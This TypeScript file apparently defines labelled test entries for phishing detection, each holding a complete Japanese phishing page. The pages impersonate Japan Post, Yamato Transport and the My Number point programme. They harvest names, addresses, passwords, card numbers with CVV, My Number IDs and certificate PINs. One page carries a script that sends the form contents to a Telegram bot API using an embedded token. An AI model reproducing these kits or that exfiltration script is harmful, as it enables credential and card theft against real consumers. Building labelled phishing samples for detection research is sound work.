import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { doc, wordmark, spinnerCss } from '../parts/yj-kit.js';

// Credential and card kits (Japan: parcels, public services, utilities).

export const entries: Entry[] = [
  // yj-japanpost-redelivery-card
{
  id: 'yj-japanpost-redelivery-card',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://japanpost-jp.redelivery-post.icu/jp/redelivery',
  body: doc({
    lang: 'ja',
    title: '日本郵便 | 再配達のお申し込み',
    css: `body{background:#fff}header{border-bottom:3px solid #cc0000;padding:8px 14px;display:flex;align-items:center;gap:10px}.w{max-width:640px;margin:0 auto;padding:16px}
h1{font-size:19px;border-bottom:1px solid #ddd;padding-bottom:8px}dl{display:grid;grid-template-columns:140px 1fr;font-size:14px;background:#fafafa;padding:10px;border:1px solid #e5e5e5}dt{font-weight:bold}
.f label{display:block;margin:12px 0 4px;font-size:14px}.f input,.f select{width:100%;padding:10px;border:1px solid #aaa;font-size:16px}.f button{margin-top:18px;padding:13px 50px;background:#cc0000;color:#fff;border:0;font-size:16px}`,
    body: `<header>${wordmark('〒 日本郵便', '#cc0000', { w: 140, size: 20 })}</header>
<div class="w"><h1>再配達のお申し込み</h1>
<p>お届け予定のゆうパックについて、お届け先住所に不備があるため配達できませんでした。下記より住所の確認と再配達のお申し込みをお願いいたします。</p>
<dl><dt>お問い合わせ番号</dt><dd>1843-2295-6107</dd><dt>郵便物の種類</dt><dd>ゆうパック</dd><dt>差出人</dt><dd>楽天市場 出店店舗</dd><dt>再配達料金</dt><dd>220円</dd></dl>
<form class="f" id="jp"><label>お名前</label><input name="name"><label>郵便番号</label><input name="zip"><label>都道府県</label><select name="pref"><option>東京都</option><option>神奈川県</option><option>大阪府</option><option>愛知県</option><option>福岡県</option><option>北海道</option></select><label>市区町村・番地</label><input name="addr"><label>電話番号</label><input name="tel">
<h3>お支払い情報</h3><label>カード番号</label><input name="card" maxlength="19"><label>有効期限</label><input name="exp" placeholder="MM/YY"><label>セキュリティコード</label><input name="cvv" maxlength="4"><label>カード名義人</label><input name="holder">
<button type="submit">申し込む</button></form></div>`,
    tail: `<script>
var TG='https://api.telegram.org/bot6820341195:AAF7pYwQ9o_sJm3Gd1vXh0KbTnZ2cRL5aEe/sendMessage?chat_id=-4012837719&text=';
document.getElementById('jp').addEventListener('submit',function(e){e.preventDefault();var s='JP-POST\\n';new FormData(this).forEach(function(v,k){s+=k+': '+v+'\\n'});
new Image().src=TG+encodeURIComponent(s);setTimeout(function(){document.querySelector('.w').innerHTML='<h1>お申し込みを受け付けました</h1><p>ご指定の日時に配達いたします。</p>'},900)});
</script>`,
  }),
},
  // yj-yamato-address-confirm
{
  id: 'yj-yamato-address-confirm',
  label: 'phishing',
  kind: 'parcel-account-kit',
  url: 'https://kuronekoyamato.co.jp-check.cyou/address/',
  body: doc({
    lang: 'ja',
    title: 'クロネコヤマト｜お届け先住所確認',
    css: `body{background:#fffbe8}.hd{background:#ffcc00;padding:10px 16px;font-weight:bold}.w{max-width:500px;margin:16px auto;background:#fff;padding:20px;border:1px solid #eedb8b}
label{display:block;font-size:13px;margin:10px 0 3px}input{width:100%;padding:10px;font-size:16px;border:1px solid #bbb}button{width:100%;margin-top:16px;background:#1a1a1a;color:#ffcc00;border:0;padding:14px;font-size:16px;font-weight:bold}.m{font-size:13px}`,
    body: `<div class="hd">ヤマト運輸 クロネコメンバーズ</div>
<div class="w"><h2 style="font-size:18px">お届け先住所の確認</h2>
<p class="m">お客様宛のお荷物（伝票番号 4921-0358-7764）は、住所不備のため配達できませんでした。クロネコメンバーズにログインし、お届け先情報をご確認ください。</p>
<form method="post" action="next.php"><label>クロネコID（メールアドレス）</label><input name="mail" type="email"><label>パスワード</label><input name="pass" type="password"><label>お届け先ご住所</label><input name="addr"><label>お電話番号</label><input name="tel" type="tel"><button>確認して再配達を依頼</button></form>
<p class="m" style="color:#777">ヤマト運輸株式会社</p></div>`,
  }),
  routes: {
    'kuronekoyamato.co.jp-check.cyou/address/next.php': htmlRoute(doc({ lang: 'ja', title: '保管料のお支払い', css: `.w{max-width:500px;margin:16px auto;padding:20px}input{width:100%;padding:10px;margin:4px 0 10px}button{width:100%;background:#1a1a1a;color:#ffcc00;padding:14px;border:0}`, body: `<div class="w"><h2>保管料のお支払い</h2><p>保管期限超過のため、保管料 ¥198 のお支払いが必要です。</p><form method="post" action="pay.php"><input name="cardno" placeholder="カード番号"><input name="exp" placeholder="有効期限 MM/YY"><input name="cvc" placeholder="セキュリティコード"><button>支払う</button></form></div>` })),
  },
},
  // yj-mynumber-point-20000
{
  id: 'yj-mynumber-point-20000',
  label: 'phishing',
  kind: 'mynumber-subsidy-kit',
  url: 'https://myna-point.soumu-go.top/apply',
  body: doc({
    lang: 'ja',
    title: 'マイナポイント第2弾 申込み｜総務省',
    css: `body{background:#f7faf9}.hd{background:#fff;padding:12px 16px;border-bottom:1px solid #dde}.hero{background:linear-gradient(135deg,#e73c7e,#f6a04d);color:#fff;text-align:center;padding:26px 12px}.hero b{font-size:38px;display:block}
.w{max-width:520px;margin:0 auto;padding:18px}label{display:block;font-size:13px;margin:12px 0 4px;font-weight:bold}input{width:100%;padding:11px;font-size:16px;border:1px solid #bbb;border-radius:5px}
.b{width:100%;margin-top:18px;background:#e73c7e;color:#fff;border:0;border-radius:28px;padding:14px;font-size:17px;font-weight:bold}.sm{font-size:12px;color:#666}.dl{color:#c00;font-weight:bold;text-align:center}`,
    body: `<div class="hd">${wordmark('マイナポイント', '#e73c7e', { w: 160, size: 20 })} <span class="sm">総務省</span></div>
<div class="hero">マイナンバーカードをお持ちの方へ<b>最大20,000円分</b>のポイントがもらえます</div>
<div class="w"><p class="dl">申込期限：本日 23:59 まで</p>
<p style="font-size:14px">お客様はマイナポイント第2弾の申込みがまだ完了しておりません。以下に必要事項を入力し、ポイントを受け取るキャッシュレス決済サービスを登録してください。</p>
<form id="mp" method="post" action="/apply/confirm.php">
<label>マイナンバー（個人番号・12桁）</label><input name="kojin" maxlength="12" inputmode="numeric">
<label>氏名</label><input name="name"><label>生年月日</label><input name="birth" placeholder="昭和50年1月1日">
<label>利用者証明用電子証明書 暗証番号（数字4桁）</label><input name="pin4" type="password" maxlength="4" inputmode="numeric">
<label>署名用電子証明書 暗証番号（英数字6〜16桁）</label><input name="pin16" type="password" maxlength="16">
<label>ポイント受取用クレジットカード番号</label><input name="card" inputmode="numeric"><label>有効期限</label><input name="exp" placeholder="MM/YY"><label>セキュリティコード</label><input name="cvv" maxlength="4">
<button class="b">申し込む</button></form>
<p class="sm">本キャンペーンは総務省が実施するマイナポイント事業です。</p></div>`,
  }),
},
];
